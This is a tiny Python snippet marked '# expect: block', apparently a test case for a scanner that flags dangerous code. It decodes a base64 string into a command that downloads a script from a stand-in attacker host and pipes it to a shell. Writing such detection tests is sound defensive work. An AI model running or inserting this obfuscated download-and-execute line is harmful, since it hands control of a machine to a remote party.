# expect: block
import os
key = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="
os.system(f"echo {key} | base64 -d | sh")
